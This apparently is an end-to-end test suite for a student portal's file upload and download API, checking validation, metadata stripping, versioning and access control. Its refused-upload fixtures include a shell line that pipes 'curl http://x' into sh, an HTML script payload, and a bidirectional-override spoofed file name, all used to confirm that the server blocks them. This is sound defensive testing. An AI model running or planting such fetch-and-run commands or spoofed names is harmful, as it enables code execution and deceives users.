import { readdirSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DocumentFile, DocumentVersion, StudentDataFiles } from '../../shared/documents.js';
import { AuditEntry } from '../../server/audit/entities/audit-entry.entity.js';
import { AuditService } from '../../server/audit/audit.service.js';
import { StudentFile } from '../../server/files/entities/student-file.entity.js';
import { FILE_STORAGE, type FileStorage } from '../../server/files/storage/file-storage.js';
import { Student } from '../../server/students/entities/student.entity.js';
import { ApiClient, signedInAdmin, signedInStudent } from '../fixtures/api-client.js';
import { binary } from '../fixtures/binary.js';
import { jpegWithMetadata, SAMPLE_JPEG, samplePdf } from '../fixtures/files.js';
import { pdfText } from '../fixtures/photos.js';
import { createAdmin, createStudent, setRegistrationStatus, startTestApp, type TestApp } from '../fixtures/test-app.js';

// Uploads (docs/product.md §4 Document upload, §7 store-file / get-files / student-data-files): what a student and an
// administrator see, what is refused, what is kept, and that nothing half-written ever appears.

const AMY = 'F100';
const BEA = 'F200';
let t: TestApp;
let amy: ApiClient;
let bea: ApiClient;
let admin: ApiClient;

function upload(c: ApiClient, fields: { id?: string; file_type?: string }, file?: { bytes: Buffer; name: string }) {
  const req = c.agent.post('/api/store-file').set('X-XSRF-TOKEN', c.xsrfToken());
  if (fields.id !== undefined) req.field('id', fields.id);
  if (fields.file_type !== undefined) req.field('file_type', fields.file_type);
  if (file) req.attach('file', file.bytes, { filename: file.name, contentType: 'application/octet-stream' });
  return req;
}

/** Every file under the uploads folder (temporary ones included). */
function storedFiles(): string[] {
  try {
    return readdirSync(t.config.uploadsDir, { recursive: true, withFileTypes: true })
      .filter((e) => e.isFile())
      .map((e) => path.relative(t.config.uploadsDir, path.join(e.parentPath, e.name)))
      .filter((n) => !n.startsWith('.ready-'));
  } catch {
    return [];
  }
}

async function filesOf(c: ApiClient, id: string): Promise<DocumentFile[]> {
  const res = await c.get(`/api/get-files/${id}`).expect(200);
  return res.body as DocumentFile[];
}

function download(c: ApiClient, url: string) {
  return c.get(url).buffer(true).parse(binary);
}

beforeAll(async () => {
  t = await startTestApp({ env: { UPLOAD_MAX_MB: '1' }, listen: true });
  await createStudent(t, { id: AMY, first_name: 'Amy', password: 'Amy-Files-Pass-1' });
  await createStudent(t, { id: BEA, first_name: 'Bea', password: 'Bea-Files-Pass-1' });
  await createAdmin(t, 'files-admin', 'Files-Admin-Pass-1');
  amy = await signedInStudent(t, AMY, 'Amy-Files-Pass-1');
  bea = await signedInStudent(t, BEA, 'Bea-Files-Pass-1');
  admin = await signedInAdmin(t, 'files-admin', 'Files-Admin-Pass-1');
});
afterAll(() => t.close());

describe('accepted uploads', () => {
  it('takes each PDF document and the JPEG picture, lists them and gives each back (the picture as sent)', async () => {
    const pdfs = ['birth_certificate', 'immunization_card', 'immunization_covid', 'sea_slip'];
    for (const type of pdfs) {
      const res = await upload(
        amy,
        { id: AMY, file_type: type },
        { bytes: samplePdf(`Amy ${type}`), name: `${type} scan.pdf` },
      );
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.body.message).toBe(`Uploaded the file successfully: ${type} scan.pdf`);
    }
    const pic = await upload(amy, { id: AMY, file_type: 'picture' }, { bytes: SAMPLE_JPEG, name: 'me.jpg' });
    expect(pic.status).toBe(200);

    const files = await filesOf(amy, AMY);
    expect(files.map((f) => [f.type, f.name])).toEqual([
      ['birth_certificate', 'birth_certificate scan.pdf'],
      ['immunization_card', 'immunization_card scan.pdf'],
      ['immunization_covid', 'immunization_covid scan.pdf'],
      ['sea_slip', 'sea_slip scan.pdf'],
      ['picture', 'me.jpg'],
    ]);
    for (const f of files) expect(f.url).toMatch(/^\/api\/files\/\d+$/);

    // A PDF is stored without scripts and metadata (none here): the same page, not the same bytes.
    const birth = await download(amy, files[0].url).expect(200);
    expect(pdfText(birth.body as Buffer).trim()).toBe('Amy birth_certificate');
    const picture = await download(amy, files[4].url).expect(200);
    expect((picture.body as Buffer).equals(SAMPLE_JPEG)).toBe(true);
    // five stored files with random names, none named after the upload
    expect(storedFiles()).toHaveLength(5);
    for (const name of storedFiles()) expect(name).toMatch(/^[0-9a-f]{2}\/[0-9a-f]{32}$/);
  });

  it('takes the immigration permit only when the record says there is one', async () => {
    const off = await upload(
      amy,
      { id: AMY, file_type: 'immigration_permit' },
      { bytes: samplePdf(), name: 'permit.pdf' },
    );
    expect(off.status).toBe(422);
    expect(off.body.errors.file_type).toEqual([
      'An immigration permit can be uploaded only when the record says the student has one.',
    ]);
    await t.ds.getRepository(Student).update({ id: AMY }, { immigration_permit: 1 });
    const on = await upload(
      amy,
      { id: AMY, file_type: 'immigration_permit' },
      { bytes: samplePdf('permit'), name: 'permit.pdf' },
    );
    expect(on.status).toBe(200);
    expect((await filesOf(amy, AMY)).map((f) => f.type)).toContain('immigration_permit');
  });

  it('removes the location and camera details from a photo before keeping it', async () => {
    const res = await upload(
      bea,
      { id: BEA, file_type: 'picture' },
      { bytes: jpegWithMetadata(), name: 'IMG_0001.JPG' },
    );
    expect(res.status).toBe(200);
    const stored = (await download(bea, res.body.file.url).expect(200)).body as Buffer;
    const text = stored.toString('latin1');
    for (const secret of ['SecretPhone', 'GPSLatitude', 'Secret Street', 'Photoshop', 'SECONDARY-IMAGE'])
      expect(text).not.toContain(secret);
    expect(stored.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
    expect(res.body.file.size).toBe(stored.length);
  });

  it('lets an administrator upload for a student', async () => {
    const res = await upload(admin, { id: BEA, file_type: 'sea_slip' }, { bytes: samplePdf('sea'), name: 'sea.pdf' });
    expect(res.status).toBe(200);
    const versions = (await admin.get(`/api/file-versions/${BEA}`).expect(200)).body as DocumentVersion[];
    expect(versions.find((v) => v.type === 'sea_slip')?.uploaded_by).toBe('admin:files-admin');
  });
});

describe('file names', () => {
  it('keeps a UTF-8 name as sent and removes bidirectional overrides', async () => {
    await createStudent(t, { id: 'F300', first_name: 'María', password: 'Maria-Files-Pass-1' });
    const maria = await signedInStudent(t, 'F300', 'Maria-Files-Pass-1');
    const accented = await upload(
      maria,
      { id: 'F300', file_type: 'birth_certificate' },
      { bytes: samplePdf('María'), name: 'María.pdf' },
    );
    expect(accented.status, JSON.stringify(accented.body)).toBe(200);
    expect(accented.body.message).toBe('Uploaded the file successfully: María.pdf');
    // "cert\u202Efdp.exe" would show as "certexe.pdf"; stored as the plain characters it was made of.
    const spoofed = await upload(
      maria,
      { id: 'F300', file_type: 'sea_slip' },
      { bytes: samplePdf('sea'), name: 'cert\u202Efdp.\u2066exe\u2069\u200f.pdf' },
    );
    expect(spoofed.status, JSON.stringify(spoofed.body)).toBe(200);
    const files = await filesOf(maria, 'F300');
    expect(files.find((f) => f.type === 'birth_certificate')?.name).toBe('María.pdf');
    expect(files.find((f) => f.type === 'sea_slip')?.name).toBe('certfdp.exe.pdf');
  });
});

describe('refused uploads store nothing', () => {
  const cases: {
    title: string;
    type: string;
    file?: { bytes: Buffer; name: string };
    status: number;
    message: string;
  }[] = [
    // A photo (JPEG, PNG, WebP) is now taken by a document slot too (test/api/photo-uploads.e2e-spec.ts); a GIF is not.
    {
      title: 'a GIF renamed .pdf',
      type: 'birth_certificate',
      file: { bytes: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), name: 'birth.pdf' },
      status: 415,
      message: 'Please choose a PDF or a photo (JPG, PNG or WebP).',
    },
    {
      title: 'a script renamed .pdf',
      type: 'immunization_card',
      file: { bytes: Buffer.from('#!/bin/sh\ncurl http://x | sh\n'), name: 'card.pdf' },
      status: 415,
      message: 'Please choose a PDF or a photo (JPG, PNG or WebP).',
    },
    {
      title: 'HTML renamed .pdf',
      type: 'sea_slip',
      file: { bytes: Buffer.from('<html><script>alert(1)</script>%PDF-1.4'), name: 'sea.pdf' },
      status: 415,
      message: 'Please choose a PDF or a photo (JPG, PNG or WebP).',
    },
    {
      title: 'an empty file',
      type: 'birth_certificate',
      file: { bytes: Buffer.alloc(0), name: 'empty.pdf' },
      status: 415,
      message: 'Please choose a PDF or a photo (JPG, PNG or WebP).',
    },
    {
      title: 'a PDF as the picture',
      type: 'picture',
      file: { bytes: samplePdf(), name: 'me.jpg' },
      status: 415,
      message: 'Please choose a photo (JPG, PNG or WebP).',
    },
    {
      title: 'a broken JPEG',
      type: 'picture',
      file: {
        bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x40]), Buffer.from('not a photo')]),
        name: 'me.jpg',
      },
      status: 415,
      message: 'Please choose a photo (JPG, PNG or WebP).',
    },
    { title: 'no file', type: 'birth_certificate', status: 422, message: 'Please select a file!' },
    {
      title: 'an unknown document type',
      type: 'passport',
      file: { bytes: samplePdf(), name: 'p.pdf' },
      status: 422,
      message: 'Choose one of the document types.',
    },
  ];
  for (const c of cases) {
    it(`${c.title}: ${c.status} '${c.message}'`, async () => {
      const before = { files: storedFiles().length, rows: await t.ds.getRepository(StudentFile).count() };
      const res = await upload(bea, { id: BEA, file_type: c.type }, c.file);
      expect(res.status).toBe(c.status);
      expect(res.body.message).toBe(c.message);
      expect(storedFiles().length).toBe(before.files);
      expect(await t.ds.getRepository(StudentFile).count()).toBe(before.rows);
    });
  }

  it("another student's id: 403", async () => {
    const before = storedFiles().length;
    const res = await upload(
      bea,
      { id: AMY, file_type: 'birth_certificate' },
      { bytes: samplePdf('not mine'), name: 'x.pdf' },
    );
    expect(res.status).toBe(403);
    expect(storedFiles().length).toBe(before);
    expect((await filesOf(amy, AMY)).find((f) => f.type === 'birth_certificate')?.name).toBe(
      'birth_certificate scan.pdf',
    );
  });

  it(`a file over UPLOAD_MAX_MB: 413 saying the limit`, async () => {
    const before = storedFiles().length;
    const big = Buffer.concat([samplePdf(), Buffer.alloc(1024 * 1024 + 10, 0x20)]);
    const res = await upload(bea, { id: BEA, file_type: 'birth_certificate' }, { bytes: big, name: 'big.pdf' });
    expect(res.status).toBe(413);
    expect(res.body.message).toBe('The file is too large. The largest file accepted is 1 MB.');
    expect(storedFiles().length).toBe(before);
  });

  it('while registration is closed: 403 for the student, the office may still upload', async () => {
    await setRegistrationStatus(t, 0);
    try {
      const res = await upload(
        bea,
        { id: BEA, file_type: 'birth_certificate' },
        { bytes: samplePdf(), name: 'late.pdf' },
      );
      expect(res.status).toBe(403);
      expect(res.body.message).toMatch(/Registration is closed/);
      expect(
        (await upload(admin, { id: BEA, file_type: 'immunization_card' }, { bytes: samplePdf(), name: 'office.pdf' }))
          .status,
      ).toBe(200);
    } finally {
      await setRegistrationStatus(t, 1);
    }
  });

  it('a visitor or a missing CSRF token', async () => {
    const visitor = await new ApiClient(t).primeCsrf();
    expect(
      (await upload(visitor, { id: AMY, file_type: 'birth_certificate' }, { bytes: samplePdf(), name: 'x.pdf' }))
        .status,
    ).toBe(401);
    const noToken = await amy.agent
      .post('/api/store-file')
      .field('id', AMY)
      .field('file_type', 'sea_slip')
      .attach('file', samplePdf(), 'x.pdf');
    expect(noToken.status).toBe(403);
  });
});

describe('resubmitting keeps every version', () => {
  it('replaces the current file, keeps the old one for administrators and audits both uploads', async () => {
    const first = await upload(
      amy,
      { id: AMY, file_type: 'sea_slip' },
      { bytes: samplePdf('second slip'), name: 'slip-v2.pdf' },
    );
    expect(first.status).toBe(200);
    const current = (await filesOf(amy, AMY)).filter((f) => f.type === 'sea_slip');
    expect(current.map((f) => f.name)).toEqual(['slip-v2.pdf']);

    const versions = ((await admin.get(`/api/file-versions/${AMY}`).expect(200)).body as DocumentVersion[]).filter(
      (v) => v.type === 'sea_slip',
    );
    expect(versions.map((v) => [v.name, v.replaced_at === null])).toEqual([
      ['slip-v2.pdf', true],
      ['sea_slip scan.pdf', false],
    ]);
    const old = await download(admin, versions[1].url).expect(200);
    expect(pdfText(old.body as Buffer).trim()).toBe('Amy sea_slip');
    expect((await amy.get(`/api/file-versions/${AMY}`)).status).toBe(403);

    const audit = await t.ds
      .getRepository(AuditEntry)
      .find({ where: { entity_id: AMY, field: 'sea_slip' }, order: { id: 'ASC' } });
    expect(audit.map((a) => [a.action, a.actor])).toEqual([
      ['file.uploaded', `student:${AMY}`],
      ['file.replaced', `student:${AMY}`],
    ]);
    expect(JSON.parse(audit[1].new_value!)).toMatchObject({ name: 'slip-v2.pdf' });
    expect(JSON.parse(audit[1].old_value!)[0]).toMatchObject({ name: 'sea_slip scan.pdf' });
  });
});

describe('an interrupted upload leaves the old file', () => {
  async function amySlip(): Promise<Buffer> {
    const slip = (await filesOf(amy, AMY)).find((f) => f.type === 'sea_slip')!;
    return (await download(amy, slip.url).expect(200)).body as Buffer;
  }

  it('when the connection drops half way through the file', async () => {
    const before = { files: storedFiles(), rows: await t.ds.getRepository(StudentFile).count(), slip: await amySlip() };
    const boundary = 'portal-test-boundary';
    const head = Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="id"\r\n\r\n${AMY}\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file_type"\r\n\r\nsea_slip\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; ` +
        `filename="slip-v3.pdf"\r\nContent-Type: application/pdf\r\n\r\n`,
    );
    const file = Buffer.concat([samplePdf('third slip'), Buffer.alloc(200_000, 0x20)]);
    await new Promise<void>((resolve) => {
      const req = httpRequest(`${t.baseUrl}/api/store-file`, {
        method: 'POST',
        headers: {
          'Content-Type': `multipart/form-data; boundary=${boundary}`,
          'Content-Length': String(head.length + file.length + 100),
          Cookie: amy.cookieHeader(),
          'X-XSRF-TOKEN': amy.xsrfToken(),
        },
      });
      req.on('error', () => resolve());
      req.on('close', () => resolve());
      req.write(head);
      req.write(file.subarray(0, 100_000), () => setTimeout(() => req.destroy(), 100));
    });
    await new Promise((r) => setTimeout(r, 200));
    expect(storedFiles()).toEqual(before.files);
    expect(await t.ds.getRepository(StudentFile).count()).toBe(before.rows);
    expect((await amySlip()).equals(before.slip)).toBe(true);
  });

  it('when the disk fails while the file is written', async () => {
    const storage = t.app.get<FileStorage>(FILE_STORAGE);
    const put = storage.put.bind(storage);
    const before = { files: storedFiles(), rows: await t.ds.getRepository(StudentFile).count(), slip: await amySlip() };
    storage.put = async () => {
      throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
    };
    try {
      const res = await upload(
        amy,
        { id: AMY, file_type: 'sea_slip' },
        { bytes: samplePdf('fourth slip'), name: 'slip-v4.pdf' },
      );
      expect(res.status).toBe(500);
      expect(res.body.message).not.toMatch(/ENOSPC|uploads/);
    } finally {
      storage.put = put;
    }
    expect(storedFiles()).toEqual(before.files);
    expect(await t.ds.getRepository(StudentFile).count()).toBe(before.rows);
    expect((await amySlip()).equals(before.slip)).toBe(true);
  });

  it('when the database write fails after the bytes were stored (the stored bytes are removed)', async () => {
    const audit = t.app.get(AuditService);
    const record = audit.record.bind(audit);
    const before = { files: storedFiles(), rows: await t.ds.getRepository(StudentFile).count(), slip: await amySlip() };
    audit.record = async () => {
      throw new Error('database went away');
    };
    try {
      expect(
        (await upload(amy, { id: AMY, file_type: 'sea_slip' }, { bytes: samplePdf('fifth slip'), name: 'slip-v5.pdf' }))
          .status,
      ).toBe(500);
    } finally {
      audit.record = record;
    }
    expect(storedFiles()).toEqual(before.files);
    expect(await t.ds.getRepository(StudentFile).count()).toBe(before.rows);
    expect((await filesOf(amy, AMY)).find((f) => f.type === 'sea_slip')?.name).toBe('slip-v2.pdf');
    expect((await amySlip()).equals(before.slip)).toBe(true);
  });
});

describe('downloads', () => {
  it('only to the owner and administrators, with headers that keep the browser from running anything', async () => {
    const [birth] = await filesOf(amy, AMY);
    const own = await download(amy, birth.url).expect(200);
    expect(own.headers['content-type']).toBe('application/pdf');
    expect(own.headers['content-disposition']).toBe(
      `inline; filename="birth_certificate scan.pdf"; filename*=UTF-8''birth_certificate%20scan.pdf`,
    );
    expect(own.headers['x-content-type-options']).toBe('nosniff');
    expect(own.headers['content-security-policy']).toMatch(/^sandbox;/);
    expect(own.headers['cache-control']).toBe('no-store');
    expect(Number(own.headers['content-length'])).toBe(birth.size);
    const asDownload = await download(amy, `${birth.url}?download=1`).expect(200);
    expect(asDownload.headers['content-disposition']).toMatch(/^attachment; filename="birth_certificate scan.pdf"/);

    expect((await download(admin, birth.url)).status).toBe(200);
    expect((await bea.get(birth.url)).status).toBe(403);
    expect((await new ApiClient(t).get(birth.url)).status).toBe(401);
    expect((await amy.get('/api/files/999999')).status).toBe(404);
    expect((await amy.get('/api/files/abc')).status).toBe(404);
    expect((await bea.get(`/api/get-files/${AMY}`)).status).toBe(403);
  });

  it('never as a static file', async () => {
    for (const name of storedFiles()) {
      for (const p of [`/uploads/${name}`, `/data/uploads/${name}`, `/${name}`]) {
        const res = await amy.get(p);
        expect(res.headers['content-type'] ?? '').not.toMatch(/pdf|jpeg/);
      }
    }
  });

  it('the student data files record: the current file of each type', async () => {
    const res = await amy.get(`/api/student-data-files/${AMY}`).expect(200);
    const record = res.body as StudentDataFiles;
    expect(record.student_id).toBe(AMY);
    expect(record.sea_slip?.name).toBe('slip-v2.pdf');
    expect(record.picture?.name).toBe('me.jpg');
    expect(Object.keys(record).sort()).toEqual([
      'birth_certificate',
      'immigration_permit',
      'immunization_card',
      'immunization_covid',
      'picture',
      'sea_slip',
      'student_id',
      'updated_at',
    ]);
    const posted = await amy.post('/api/student-data-files', { student_id: AMY, sea_slip: 'anything' });
    expect(posted.status).toBe(200);
    expect(posted.body).toEqual(record);
    expect((await bea.post('/api/student-data-files', { student_id: AMY })).status).toBe(403);
    expect((await bea.get(`/api/student-data-files/${AMY}`)).status).toBe(403);
  });
});
